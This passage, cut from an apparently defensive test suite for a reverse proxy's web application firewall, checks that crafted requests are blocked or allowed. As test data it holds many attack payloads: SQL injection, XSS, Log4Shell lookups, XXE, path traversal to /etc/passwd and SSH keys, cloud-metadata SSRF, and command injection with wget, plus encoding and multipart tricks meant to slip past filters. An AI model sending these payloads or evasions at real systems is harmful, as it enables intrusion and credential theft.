	        more = c.recv(1 << 20)
	        if not more: break
	        got += more
	    return got
	c.sendall(post(b'/first', 65536) + b'a' * 65536 + post(b'/second', len(inner)))
	one = answer()
	c.sendall(inner)
	two = answer()
	sys.exit(not (b'"target":"/first"' in one and b'"target":"/second"' in two))
	END
	python3 two.py "$port" || fail 'the second request was not read as it was sent'
}

# lenient TYPE CONTENT [FIELD]: the status of a POST
lenient() { code -X POST -H "Content-Type: $1" -H "${3-X: y}" --data-binary "$2" "$url"; }
test_content_is_looked_at_as_lenient_readers_take_it() {
	start -r /=200:x --waf block
	nl=$(printf '\r\n_'); nl=${nl%_}
	x='<script>alert(1)</script>'
	part() { printf '%s' "--R$nl$1$nl$nl$x$nl--R--$nl"; }
	for head in 'Content-Disposition: form-data; name="q"' "Content-Disposition: form-data;$nl name=\"q\"" \
		'Content-Disposition: form-data; x="; filename=y"; name="q"' 'Content-Disposition : form-data; name="q"' \
		"Content-Disposition: form-data; name*=UTF-8''q" "Content-Disposition: form-data; name=\"q\"${nl}Content-Disposition: form-data; name=\"q\"; filename=\"f\""; do
		is "$(lenient 'multipart/form-data; boundary=R' "$(part "$head")")" 403 "the status for $head"
	done
	is "$(lenient 'multipart/form-data; boundary=R' "--R--$nl$(part 'Content-Disposition: form-data; name="q"')")" 403 'behind the last'
	is "$(lenient 'multipart/form-data; boundary=F; boundary=R' "$(part 'Content-Disposition: form-data; name="q"')")" 403 'two boundaries'
	is "$(lenient 'multipart/form-data' "$(part 'Content-Disposition: form-data; name="q"')")" 403 'no boundary'
	for type in application/json application/vnd.api+json text/json 'Application/JSON ;x' application/csp-report application/graphql text/plain x; do
		is "$(lenient "$type" '{"a":"/etc/passwd"}')" 403 "the status of JSON as $type"
		is "$(lenient "$type" '{"a":"etc, passwd"}')" 200 "the status of fine JSON as $type"
	done
	is "$(lenient application/x-www-form-urlencoded,x 'a=/etc/passwd')" 403
	is "$(lenient text/plain 'a' 'Content-Type: application/json')" 403 'two types'
	for type in image/png application/octet-stream; do is "$(lenient "$type" "$x")" 200 "the status of $type"; done
	is "$(lenient text/plain "$x" 'Content-Encoding: gzip')" 200 'what is coded'
}
test_fields_and_spellings_that_look_calm_are_looked_at() {
	start -r /=200:x --waf block
	for f in 'Accept' 'Accept-Language' Origin Authorization If-Match Sec-X Pragma Via Range TE; do
		is "$(code -g -H "$f: \${jndi:ldap://h/x}" "$url")" 403 "the status for $f"
	done
	for q in '1%0bunion%0bselect%0b1,2' '1%0cor%0c1=1' 'null+union+select+password+from+users' '1+union+table+users--' '@@version' 'or+true--' \
		'%3C!DOCTYPE+a%0aSYSTEM%0a%22http://h/%22%3E'; do
		is "$(code "$url/?q=$q")" 403 "the status for $q"
	done
	for p in '/x/..;/manager' '/..;a=b/'; do is "$(code --path-as-is "$url$p")" 400 "the status for $p"; done
	home='~'
	for pad in '' "$(printf '%0300d' 0)"; do
		for v in file:///etc/passwd php://input c:/windows/win.ini .env .git/config $home/.ssh/id_rsa 'cat /etc/passwd' '{{config}}' '{{7+7}}' \
			rO0ABXNyABFqYXZh http://LOCALHOST/ http://169.254.169.254/ '../../etc/passwd' '1 UNION SELECT 1' '1 union select null,null' /etc/passwd; do
			is "$(lenient application/json "{\"p\":\"$pad\",\"a\":\"$v\",\"q\":\"$pad\"}")" 403 "the status for $v"
		done
		is "$(lenient application/json "{\"p\":\"$pad\",\"__proto__\":{\"a\":1},\"q\":\"$pad\"}")" 403
		is "$(lenient application/json "{\"p\":\"$pad\",\"constructor\":{\"prototype\":{\"a\":1}},\"q\":\"$pad\"}")" 403
	done
}
test_rules_of_attacks_know_names_and_paths_in_each_spelling() {
	printf 'block param:debug\nblock path:/wp-admin\nexempt path:/free\n' >own
	start -r /=200:x --waf block,@own
	for u in '?debug=1' '?debug' '?de%62ug=1' wp-admin/x /wp-admin '%2fwp-admin' free//x?q=%27+or+1=1 /free/x?q=%27+or+1=1; do
		printf '%s ' "$(code --path-as-is "$url/$u")"
	done >got
	is "$(cat got)" '403 403 403 403 403 403 200 403 '
	start -r /=200:x -a '/get/http://*' -a '/f/a%2Fb'
	is "$(code --path-as-is "$url/get/http://e.example/")$(code --path-as-is "$url/f/a%2Fb")$(code "$url/f/a/b")" 200200403
}
test_what_is_found_about_a_head_names_nothing_of_the_one_before() {
	from_tree proxy.c
	need cc
	cat >heads.c <<-'END'
	#define main proxy_main
	#include "proxy.c"
	#undef main
	static struct head head;
	static void look(const char *text)
	{
	    struct target target;
	    struct waf_verdict v = { 0 };
	    char *own = strdup(text), found[512];
	    size_t n = strlen(text);
	    struct text t = TEXT(found);
	    head_begin(&head);
	    if (head_parse(&head, HEAD_REQUEST, own, n, 8192) || !head.size || target_parse(head_target(&head), head_method(&head), &target))
	        exit(2);
	    waf_read_head(&v, NULL, &head, &target);
	    text_waf(&t, &v);
	    printf("%u %.*s\n", waf_sum(&v), (int)t.n, found);
	    memset(own, '#', n), free(own);
	}
	int main(void)
	{
	    waf_learn();
	    look("GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: a\r\nX-Secret-Name: ('\r\n\r\n");
	    look("GET / HTTP/1.1\r\nHost: h\r\n\r\n");
	    return 0;
	}
	END
	cc -w -DTLS=0 -I"$tree" -o heads heads.c || fail 'cc'
	./heads >found || fail "status $?"
	is "$(sed -n 2p found)" '1 scanner no-agent field '
}

test_uploads_of_browsers_and_programs_pass_waf() {
	start -r /=200:x --waf block
	form() {  # BOUNDARY, NAME, rest of the disposition, CONTENT, boundary as Content-Type has it
		printf -- '--%s\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n--%s--\r\n' "$1" "$2" "$3" "$4" "$1" >form
		code -H "Content-Type: multipart/form-data; boundary=${5:-$1}" --data-binary @form "$url/up"
	}
	for b in ----WebKitFormBoundary7MA4YWxkTrZu0gW ----geckoformboundary7f3a8e axios-1.7.2-boundary-abc123 ----formdata-undici-0123456789 \
		----------------------------735323031399963166993862 0d6ad0c5e3c24dc1a5ec1ee9c2dbe4b5; do
		is "$(form $b file '; filename="a.csv"' 'id,x')" 200 "the status for $b"
		is "$(form $b note '' "x' or 1=1")" 403 "the status for an attack within $b"
	done
	is "$(form 'a b' q '' x '"a b"')$(form '=_P' q '' x '"=_P"')" 200200 'the status for a boundary in quotes'
	for b in 'x; y=boundary=B' 'B; boundary=x' '' "$(printf %071d 0)" 'a"b' 'a b' '"a;b"' 'a\\b'; do
		is "$(form B q '' x "${b:- }")" 403 "the status for boundary=$b"
	done
	page='<script>alert(1)</script>'
	for n in file name username file_name; do is "$(form B $n '; filename="names.html"' "$page")" 200 "the status for a file in $n"; done
	is "$(form B q '' "$page")$(form B q '; filename*=x' "$page")$(form B q '; name="f"; filename="x"' "$page")" 403403403
	is "$(form B q '; filename="../../etc/passwd"' x)" 403
}
test_own_rules_hold_for_values_wherever_they_stand() {
	i=0
	while [ $i -lt 300 ]; do
		i=$((i + 1))
		echo "block param:p$i,value:w$i"
	done >own
	cat >>own <<-'END'
	exempt param:note
	block param:z,value:casino
	block param:dnt,value:7
	block param:user-agent,value:*badbot*
	block value:forbidden
	END
	start_logged --log-format '%{rule}x' -r /=200:x --waf block,@own
	at() { code -g "$@" "$url/"; }
	a="x' or 1=1"
	json='Content-Type: application/json'
	is "$(at -F "note=$a")$(at -d "note=$a")$(at -b "note=$a")$(at -H "Note: $a")$(at -H "$json" -d "{\"note\":\"$a\"}")" 200200200200200
	is "$(at -F "not=$a")$(at -d "not=$a")$(at -b "not=$a")$(at -H "Not: $a")$(at -H "$json" -d "{\"not\":\"$a\"}")" 403403403403403
	is "$(at -F z=casino)$(at -d z=casino)$(at -b z=casino)$(at -H 'Z: casino')$(at -H "$json" -d '{"z":"casino"}')" 403403403403403
	is "$(at -F z=other)$(at -d y=casino)" 200200
	is "$(at -H 'DNT: 7')$(at -H 'DNT: 1')$(at -A 'Mozilla/5.0 BadBot')$(at -A 'Mozilla/5.0 (X11; Linux)')$(code "$url/forbidden")" 403200403200403
	is "$(code "$url/?p299=w299")$(code "$url/?p299=w298")" 403200
	logged 24
	is "$(sed -n 23p log)" 'own line 299 query:p299 a000'
}
test_what_is_near_to_an_attack_passes_and_a_longer_one_does_not() {
	start -r /=200:x --waf block
	ask() { code -G --data-urlencode "q=$1" "$url/"; }
	while read -r value; do
		[ "$(ask "$value")" = 200 ] || fail "refused: $value"
	done <<-'END'
	"red shoes" or "blue shoes"
	'red' or 'blue'
	"a" and author="b"
	data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==
	/documents/123
	/programs/2024
	/sites/a
	/logs/a
	/dev/a
	/phpinfo
	/login?next=/app?tab=1
	0.5/1
	10.5/20
	127.50/kg
	http://1234abcd/x
	[mail](contact.html), [open](https://x.example)
	Rent; deposit=$500
	| id | name | |----|------| | 1 | who |
	webpack:///src/app.js
	query IntrospectionQuery { __schema { types { name } } }
	<math></math> <a href=http://x.example>x</a>
	More or less; less is more; find it; kill it
	If defined, it is the first of them
	for 50 % in (2020 and 2021)
	filters[tags][$in]=news
	Choose one (select all that apply)
	$price (5 items)
	see ../README.md and ../../LICENSE
	c:\users\bob\report.docx
	<%= foo %>
	Main Rd; Apt #4
	src/**/order/*.js
	x = 1 or
	END
	while read -r value; do
		[ "$(ask "$(printf '%b' "$value")")" = 403 ] || fail "let pass: $value"
	done <<-END
	1 or a or a or a or a or a or a or a or a or a or a or 2>1
	1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1 or 2>1
	1 order by 9
	1 order by 9-- -
	1 having true-- -
	1 div sleep(5)
	it''s' or 'a'<'b
	$(printf '$(a)%.0s' 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 40 41 42 43 44 45 46 47 48 49 50 51 52 53 54 55 56 57 58 59 60 61 62 63 64 65)\$(cat /etc/passwd)
	\${\${$(printf 'a%0259d' 0):-j}ndi:ldap://x}
	<!DOCTYPE a $(printf '%300s' '' | tr ' ' '\t') SYSTEM "http://x.example/y">
	{{$(printf '%1100s' '' | tr ' ' '\t')7*7}}
	/etc/passwd\t\n
	(c:\\\\program files\\\\x
	<a href="java&#0000000000000115;cript:alert(1)">
	{% include '/etc/hosts' %}
	FOR /F %G IN ('x') DO ECHO %G
	IF NOT EXIST c:\\\\x del y
	if %a% geq 2 goto x
	if exist c:\\\\windows\\\\x.txt
	| wget http://192.0.2.4/x |:
	a"\\r\\na1 login x
	x | net localgroup Administrators eve /ADD
	1 union#x
	1 and conv(version(),10,2)
	x from(select 1)
	1/**/from/**/users
	select 0x7461626c65 from x
	and 6698=(
	2*3 --
	\\\\1union select 2
	<>"'%;)(&+
	\$_a[5]{'d'}/*x*/(17)
	/*!50000x*/
	master..xp_cmdshell 'dir'
	END
	is "$(ask 'http://localhost:3000/cb')$(code -G --data-urlencode 'redirect_uri=http://localhost:3000/cb' "$url/")" 403200
	is "$(code -b 'n=%u4f60%u597d%u3002' "$url/")$(code -b 'n=a%u200bb' "$url/")$(code -b 'n=%u002e%u002e/' "$url/")" 200200403
	is "$(code "$url/item/8/**/AND/**/2=2")$(code "$url/item/8/AND/2")" 403200
	for agent in 'Mozilla/5.0 (;curl http://x.example/y)' 'x (;cat /etc/passwd' 'l9explore/1.0'; do is "$(code -A "$agent" "$url/")" 403 "the status for $agent"; done
	is "$(code -X POST -H 'Content-Type:' --data-binary '<svg onload=alert(1)>' "$url/")" 403
}
test_content_that_readers_take_for_something_else_is_refused() {
	need python3
	start -r /=200:x --waf block
	cat >readers.py <<'END'
import http.client, sys
def ask(type, body, target='/'):
    c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]), timeout=10)
    c.request('POST', target, body if isinstance(body, bytes) else body.encode(), {'Content-Type': type, 'User-Agent': 'a'})
    return c.getresponse().status
bad = 0
def expect(status, what, type, body):
    global bad
    got = ask(type, body)
    if got != status: bad += 1; print(what, 'has', got, 'not', status)
P = "1' or 1=1-- "
F = 'Content-Disposition: form-data; name="q"'
Z = 'Content-Disposition: form-data; name="z"; filename="z"'
mp = 'multipart/form-data; boundary=X'
end = '\r\n--X--\r\n'
forms = {
 'no file name': f'--X\r\n{F}; filename=""\r\n\r\n{P}',
 'a blank before =': f'--X\r\n{F}; filename ="a"\r\n\r\n{P}',
 'apostrophes': f"--X\r\nContent-Disposition: form-data; a='; filename=x; b='; name=\"q\"\r\n\r\n{P}",
 'backslashes': f'--X\r\n{F}; x="\\\\"; filename=z; y="\r\n\r\n{P}',
 'a boundary in a line': f'--X\r\n{Z}\r\n\r\nhi--X\r\n{F}\r\n\r\n{P}',
 'a boundary behind CR': f'--X\r\n{Z}\r\n\r\nhi\r--X\r\n{F}\r\n\r\n{P}',
 'a boundary behind LF': f'--X\r\n{F}\r\n\r\nhello\n--X\r\n{Z}\r\n\r\n{P}',
 'CR between fields': f'--X\r\nX: a\r{F}\r\n{Z}\r\n\r\n{P}',
 'CR CR behind the head': f'--X\r\n{F}\r\nX: a\r\r{P}\r\n\r\nx',
 'a boundary that goes on': f'--X\r\n{F}\r\n\r\nhello\r\n--Xfoo\r\n{Z}\r\n\r\n{P}',
 'LF LF behind the head': f'--X\r\n{Z}\n\nfoo\r\n{F}\r\n\r\n{P}',
 'base64': f'--X\r\n{F}\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgb3IgMT0xLS0g',
 'UTF-7 in a part': f'--X\r\n{F}\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n1+ACc- or 1+AD0-1',
}
for what, body in forms.items(): expect(403, what, mp, body + end)
expect(403, 'a blank behind the boundary', mp + ' ; a=b', f'--X \r\n{F}\r\n\r\nhello\r\n--X\r\n{Z}\r\n\r\n{P}\r\n--X --{end}')
page = '<script>alert(1)</script>'
files = {
 'a file': Z, 'a file of .NET': "Content-Disposition: form-data; name=f; filename=a.html; filename*=utf-8''a.html",
 'a file of an Irishman': 'Content-Disposition: form-data; name="f"; filename="O\'Brien; 1,2.html"',
}
for what, head in files.items():
    expect(200, what, mp, f'--X\r\n{head}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: binary\r\n\r\n{page}' + end)
expect(200, 'lines that end with LF', mp, f'--X\n{F}\n\nhello\n--X\n{F}\n\nyou\n--X--\n')
expect(403, 'a file by filename* alone', mp, f"--X\r\n{F}; filename*=utf-8''a\r\n\r\n{page}" + end)
form, json, xml = 'application/x-www-form-urlencoded', 'application/json', 'application/xml'
expect(403, 'UTF-7', json + '; charset=utf-7', '{"q": "1+ACc- or 1+AD0-1+AC0-+AC0- "}')
expect(403, 'EBCDIC', form + '; charset=ibm037', ("q=" + P).encode('cp037'))
for charset in 'utf-8', 'UTF-8', 'iso-8859-15', 'windows-1252', 'gb18030': expect(200, charset, json + '; charset=' + charset, '{"q":"x"}')
for code in 'utf-16-le', 'utf-16-be', 'utf-16', 'utf-32-le':
    expect(403, code, json, '{"q":"\\u0031\\u0027 or 1=1"}'.encode(code))
    expect(403, code + ' of no type', 'application/foo', '{"q":"1\' or 1=1"}'.encode(code))
expect(200, 'octets of no type', 'application/foo', b'\x00\x01\x02\x03abc\x00')
evil = '<?xml version="1.0" encoding="%s"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
expect(403, 'XML in EBCDIC', xml, (evil % 'cp037').encode('cp037'))
expect(403, 'XML in UTF-16', xml, (evil % 'utf-16').encode('utf-16'))
expect(403, 'XML that says UTF-7', xml, '<?xml version="1.0" encoding="utf-7"?><a/>')
for body in "<a><!-- ' --><x>/etc/passwd</x><!-- ' --></a>", "<a><?b '?><x>/etc/passwd</x><?b '?></a>", '<a b="/etc/passwd"/>':
    expect(403, body, xml, body)
expect(200, 'XML with comments', xml, "<a><!-- it's --><?b it's?><x y=\"it's\">fine</x></a>")
more = {
 'a path in filename*': f'--X\r\n{F}; filename="a.txt"; filename*=UTF-8' + "''..%2f..%2f..%2fetc%2fpasswd\r\n\r\nx",
 'an empty filename*': f'--X\r\n{F}; filename="a.txt"; filename*=UTF-8' + f"''\r\n\r\n{P}",
 'two charsets': f'--X\r\n{F}\r\nContent-Type: text/plain; charset=utf-8; charset=utf-7\r\n\r\nx',
 'an empty head': f'--X\r\n\r\n{Z}\r\n\r\n{P}',
}
for what, body in more.items(): expect(403, what, mp, body + end)
for body in b'\xfe\xff\x00{\x00"', b'\x00{\x00\n\x00"', b'\xff\xfe\x00\x00{\x00\x00\x00', '<a/>'.encode('utf-16-le'):
    expect(403, body, 'application/foo', body)
big = f'--X\r\n{F}\r\n\r\n'
for n in range(-3, 9):
    fill = (131072 - len(big) - len(end) + n) * 'x'
    expect(200, 'a form of %d octets' % len(big + fill + end), mp, big + fill + end)
expect(200, 'XML that says UTF-8', xml, '<?xml version="1.0" encoding="UTF-8"?><a b="c">d</a>')
pad = ' '.join(['quiet words of prose'] * 12)
for what in '"@type":"com.sun.rowset.JdbcRowSetImpl"', '"constructor":{"a":"%s","prototype":{"b":1}}' % pad, '"q":"' + P + '"', '"q":"a\\nid; ls"':
    expect(403, what, json, '{"p":"%s",%s,"r":"%s"}' % (pad, what, pad))
sys.exit(bad != 0)
END
	python3 readers.py "$port" >said || fail "$(cat said)"
	printf 'exempt path:/,param:body,detector:xss\nblock param:debug\n' >own
	start -r /=200:x --waf block,@own
	x() { code -H 'Content-Type: application/xml' --data-binary "$1" "$url"; }
	s='&lt;script&gt;alert(1)&lt;/script&gt;'
	is "$(x "<r><body>$s</body></r>")$(x "<r body=\"$s\"/>")" 200200
	is "$(x "<r><body>a</body><q id=\"$s\"/></r>")$(x "<r><body/>$s</r>")$(x "<r><body/><![CDATA[<script>alert(1)</script>]]></r>")" 403403403
	is "$(x '<a debug="1"/>')$(x '<a b="1"/>')$(code -g "$url/?+debug=1")$(code -g "$url/?%20debug=1")$(code -g "$url/?debug[]=1")" 403200403403403
}
test_what_json_is_taken_apart_for_is_seen_at_each_place_and_by_each_processor() {
	from_tree proxy.c
	need cc
	cat >sieve.c <<-'END'
	#define main proxy_main
	#include "proxy.c"
	#undef main
	static size_t both(const char *p, size_t n)
	{
	    char *own = malloc(n);
	    memcpy(own, p, n);
	    bool odd, wide;
	    size_t at = os_sieve_plain(&waf_json_sieve, own, n, &odd), quotes = 0;
	#if HAVE_WIDE
	    static size_t (*const all[])(const struct sieve *, const char *, size_t, bool *) = { os_sieve, os_sieve_wide, os_sieve_wider };
	    bool have[] = { true, __builtin_cpu_supports("avx2"), __builtin_cpu_supports("avx512vbmi") && __builtin_cpu_supports("avx512bw") };
	    for (int k = 0; k < 3; k++)
	        if (have[k] && (all[k](&waf_json_sieve, own, n, &wide) != at || wide != odd)) { printf("%d: %.*s\n", k, (int)n, own); exit(1); }
	#endif
	    for (size_t i = 0; i < at; i++) quotes += own[i] == '"';
	    if (odd != (quotes & 1)) { puts("quotes"); exit(1); }
	    free(own);
	    return at;
	}
	int main(int argc, char **argv)
	{
	    char text[400];
	    const char *quiet = "{\"id\":12,\"name\":\"Item - one, two!\",\"at\":\"https:\057\057w.example.com\057a_b\",\"x\":[1.5e+3,null]},";
	    waf_learn();
	    for (size_t i = 0; i < sizeof text; i++) text[i] = quiet[i % strlen(quiet)];
	    if (both(text, sizeof text) != 384) { puts("it is not quiet"); return 1; }
	    for (int k = 1; k < argc; k++)
	        for (size_t at = 0; at < 128; at++) {
	            char copy[sizeof text];
	            memcpy(copy, text, sizeof text);
	            memcpy(copy + at, argv[k], strlen(argv[k]));
	            if (both(copy, sizeof text) >= at + strlen(argv[k])) { printf("%s at %zu is passed over\n", argv[k], at); return 1; }
	        }
	    unsigned seed = 1;
	    for (int k = 0; k < 20000; k++) {
	        size_t n = k % sizeof text;
	        for (size_t i = 0; i < n; i++) {
	            seed = seed * 1103515245 + 12345;
	            if (seed >> 16 & 31) text[i] = "abcdeghijk,. 0[]}-"[(seed >> 21) % 18];
	            else text[i] = k & 1 ? (char)(seed >> 24) : "/.\":_s{olecty"[(seed >> 21) % 14];
	        }
	        both(text, n);
	    }
	    return 0;
	}
	END
	cc -w -DTLS=0 -I"$tree" -o sieve sieve.c || fail 'cc'
	./sieve "'" '#' '$' '%' '&' '(' ')' '*' ';' '<' '=' '>' '|' '~' '`' "$(printf '\134')" "$(printf '\303\251')" '"/e' ' /e' '"./' '..' '/.g' \
		__p '{{' file: php: c: jdbc: //1 '//[' //l //M select SELECT prototype '"rO0' >said || fail "$(cat said)"
}

# Of each line, "PLACE|BEFORE|AGAIN AND AGAIN": 128 KiB of it may take no more than thrice as long as 64 KiB. Time is that
# of the CPU, the least of five. The worst of them are told if it fails.
test_attacks_are_looked_for_in_time_in_proportion_to_the_octets() {
	from_tree proxy.c
	need cc
	cat >slow.c <<'END'
#define main proxy_main
#include "proxy.c"
#undef main
enum { ALL = 128 << 10 };
static char octets[ALL + 64];
static struct head head;
static int64_t cpu_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return t.tv_sec * INT64_C(1000000000) + t.tv_nsec;
}
static int64_t inspect(const char *where, size_t n)
{
    static const struct { const char *where, *type; } types[] = {
        { "form", "application/x-www-form-urlencoded" }, { "part", "multipart/form-data; boundary=xyz" }, { "json", "application/json" },
        { "xml", "application/xml" }, { "text", "text/plain" },
    };
    char request[256];
    const char *type = NULL;
    int64_t best = INT64_MAX;
    for (size_t i = 0; i < sizeof types / sizeof *types; i++)
        if (!strcmp(types[i].where, where))
            type = types[i].type;
    int m = snprintf(request, sizeof request, "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: %s\r\n\r\n", type ? type : "x");
    head_begin(&head);
    if (head_parse(&head, HEAD_REQUEST, request, (size_t)m, 8192) || !head.size)
        exit(2);
    for (int i = 0; i < 5; i++) {
        struct waf_verdict v = { 0 };
        int64_t began = cpu_ns(), took;
        struct slice all = { octets, n };
        waf_begin(&v, NULL);
        if (type)
            waf_read_content(&v, NULL, &head, all, true);
        else if (!strcmp(where, "pairs") || !strcmp(where, "cookies"))
            waf_pairs(*where == 'p' ? WAF_QUERY : WAF_COOKIE, all, *where == 'p' ? '&' : ';', *where == 'p');
        else if (!strcmp(where, "path"))
            waf_path(all, SLICE(""));
        else if (!strcmp(where, "referer"))
            waf_url(all, SLICE("referer"));
        else if (!strcmp(where, "agent"))
            waf_agent(all);
        else
            waf_value(!strcmp(where, "field") ? WAF_FIELD : WAF_QUERY, SLICE("a"), all, !strcmp(where, "name"), true);
        took = cpu_ns() - began;
        best = took < best ? took : best;
    }
    return best;
}
static size_t unescape(char *s)                          /* \n \r \t \s \\ */
{
    char *w = s;
    for (char *r = s; *r; r++) {
        if (*r == '\\' && r[1])
            r++, *w++ = *r == 'n' ? '\n' : *r == 'r' ? '\r' : *r == 't' ? '\t' : *r == 's' ? ' ' : *r;
        else
            *w++ = *r;
    }
    *w = 0;
    return (size_t)(w - s);
}
int main(void)
{
    static char line[4096], told[4096];
    double worst = 0;
    int bad = 0;
    waf_learn();
    while (fgets(line, sizeof line, stdin)) {
        int64_t took[2];
        line[strcspn(line, "\n")] = 0;
        strcpy(told, line);
        char *before = strchr(line, '|'), *again = strchr(before + 1, '|');
        *before++ = 0, *again++ = 0;
        size_t b = unescape(before), a = unescape(again);
        for (int round = 0; round < 4 && (round == 0 || took[1] >= 3 * took[0]); round++)    /* others may be busy */
            for (int k = 0; k < 2; k++) {
                size_t n = b;
                memcpy(octets, before, b);
                for (; n + a <= (size_t)(ALL / 2 << k); n += a)
                    memcpy(octets + n, again, a);
                took[k] = inspect(line, n);
            }
        double times = (double)took[1] / (double)(took[0] + 1), us = (double)took[1] / 1e3 / (ALL >> 10);
        printf("%s %.2f us/KiB, %.1f times: %s\n", times < 3 ? "#" : "not", us, times, told);
        if (us > worst)
            worst = us;
        bad |= times >= 3;
    }
    printf("# worst: %.1f us/KiB\n", worst);
    return bad;
}
END
	cc -w -O1 -DTLS=0 -I"$tree" -o slow slow.c || fail 'cc'
	./slow >took <<-'END'
	value||union/*
	value||union select
	value||'
	value||"
	value||(
	value||or(
	value||or 1=
	value||' or '
	value||' or (
	value||'or~
	value||sleep /*
	value||sleep(
	value||(select\s
	value||not(
	value||1,
	value||/*
	value||--
	value||@@a
	value||'||'
	value||case when\s
	value||' union select |1,
	value||${${${
	value||${a:-
	value||${a}
	value||${::-j}
	value||${jndi:
	value||${lower:
	value||{{
	value||{{a}}
	value||{%
	value||#{(
	value||<%
	value||<a <a
	value||<a\s
	value||<
	value||<a b="
	value||<a b='
	value||<a| on a=
	value|| on a=
	value||"onload="
	value||<!--
	value||<script
	value||javascript:
	value||&#
	value||&#x
	value||&
	value||&amp;
	value||..
	value||../
	value||..\\
	value||/
	value||\\
	value||%25
	value||%2525
	value||%u
	value||%u0027
	value||%c0%ae
	value||\\u0027
	value||\\x
	value||;
	value||;ls\s
	value||`
	value||`a
	value||`a`
	value||$(
	value||$(id
	value|||
	value||<(
	value||{ls,
	value||''ls
	value||alert(
	value||fetch(
	value||eval(
	value||system(
	value||a.
	value||a[
	value||[a]
	value||a['b']
	value||__
	value||__class__
	value||<?
	value||$a
	value||$a=
	value||$_
	value||O:4:
	value||$ne
	value||[$
	value||this.
	value||)(
	value||(&
	value||(cn=
	value||*(
	value||<!DOCTYPE
	value||<!ENTITY
	value||SYSTEM
	value||//
	value||http://
	value||http://1
	value||1.
	value||\n
	value||\nto:
	value||#
	value||__proto__
	value||constructor
	value||a
	value||a\s
	value||%00
	value||!
	value||\s
	name||a[
	name||__proto__[
	field||;
	field||a(
	path||/
	path||../
	path||a/
	path||'/
	path||;a=/
	referer|http://|a/
	referer|http://h/?|a='&
	agent||sqlmap\s
	agent||a;
	pairs||a=&
	pairs||a='&
	pairs||a=;id&
	pairs||&
	cookies||a=';
	cookies||\s
	form||a=&
	form||a=<a&
	form||+
	part||--
	part||-
	part||--xyz
	part||--xyz\r\n
	part||--xyz\r\nContent-Disposition: form-data; name=a\r\n\r\nv\r\n
	part|--xyz\r\nContent-Disposition: form-data;| name
	part|--xyz\r\n|\n
	json||"
	json||{"a":
	json||{"a":"b",
	json||"'",
	json||"/",
	json||"\\
	json||\\"
	json|{"a":"|x
	json|{"a":"|<
	json|{"a":"|.
	json|{"a":"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx|..
	json|| :
	json||[
	xml||<
	xml||<a
	xml||<a>
	xml||<a b="
	xml||<a b="c">
	xml|<a |=
	xml|<a |a=
	xml|<a |=''
	xml||<!--
	xml||<!-- -->
	xml||<?
	xml||<![CDATA[
	xml||<![CDATA[]]>
	xml|<![CDATA[|]
	xml||&a;
	xml|<!DOCTYPE a [|<!ENTITY a\s
	xml||<!DOCTYPE
	text||a('
	text||\n
	END
	status=$?
	[ $status = 0 ] || fail "$(grep '^not' took | sort -rn -k2 | head -n 20; tail -n 1 took)"
}

sqli="q=x'+or+1=1"  # a query that is an attack to any level
script='q=<script>alert(1)</script>'

test_usage_errors_of_waf_name_the_flag_and_the_mend() {
	while IFS='|' read -r value message; do
		(refuses "^proxy: --waf $message" -l 0 -r /=200 --waf "$value") || bad=1
	done <<-'END'
	nonsense|nonsense: .*block, or log
	BLOCK|BLOCK: .*block, or log
	level=2|level=2: .*block, or log
	block,level=0|block,level=0: .*level=1, 2 or 3, or @FILE
	log,level=10|log,level=10: .*level=1, 2 or 3, or @FILE
	block,level=-1|block,level=-1: .*level=1, 2 or 3, or @FILE
	block,level=|block,level=: .*level=1, 2 or 3
	block,level|block,level: .*level=1, 2 or 3
	block,level=1,level=2|block,level=1,level=2: .*level=1, 2 or 3
	block,|block,: .*level=1, 2 or 3, or @FILE
	block,level=2,|block,level=2,: .*level=1, 2 or 3, or @FILE
	block,,level=2|block,,level=2: .*level=1, 2 or 3
	block,rules|block,rules: .*@FILE
	block,@|block,@: .*name of a file
	log,level=3,@|log,level=3,@: .*name of a file
	END
	(refuses '--waf.*twice' -l 0 -r /=200 --waf block --waf log) || bad=1
	try -l 0 -r /=200 --waf block,@none
	is "$status" 1 'exit status'
	is "$err" 'proxy: --waf @none: No such file or directory'
	[ -z "${bad-}" ] || exit 1
}

test_what_is_wrong_in_the_file_of_waf_is_named_with_its_line() {
	while IFS='|' read -r line message; do
		printf '# own\n\n%s\nexempt /ok\n' "$line" >own
		(refuses "^proxy: --waf @own: line 3: $message" -l 0 -r /=200 --waf "block,@own") || bad=1
	done <<-'END'
	deny /x|.*exempt TERM,... or block TERM
	Block /x|.*exempt TERM,... or block TERM
	/x|.*exempt TERM,... or block TERM
	block|.*exempt TERM,... or block TERM
	exempt|.*exempt TERM,... or block TERM
	exempt nonsense:x|nonsense:x: no such kind
	exempt status:200|status:200: .*status
	exempt 10.0.0.1|10\.0\.0\.1: .*from: or to:
	exempt level:2|level:2: no such term; there are param:
	block value:a,b|b: no such term; .*comma .*to:b
	exempt detector:nonsense|detector:nonsense: no such detector; there are sqli xss
	exempt detector:own|detector:own: no such detector
	exempt detector:|detector:: the value is missing
	exempt param:|param:: the value is missing
	block value:|value:: the value is missing
	block detector:xss|detector:xss: .*goes with exempt
	exempt /x,value:x|value:x: .*goes with block
	block param:a,param:b|param:b: .*line of its own
	block value:a,value:b|value:b: .*line of its own
	block not:param:a|not:param:a: no such kind
	block @other|@other: .*do not nest
	END
	awk 'BEGIN { for (i = 0; i < 1025; i++) print "block param:p" i }' >own
	(refuses '^proxy: --waf @own: line 1025: .*1024' -l 0 -r /=200 --waf block,@own) || bad=1
	sed -i 1d own
	try --dry-run -l 0 -r /=200 --waf block,@own
	is "$status" 0 'exit status with 1024 lines'
	[ -z "${bad-}" ] || exit 1
}

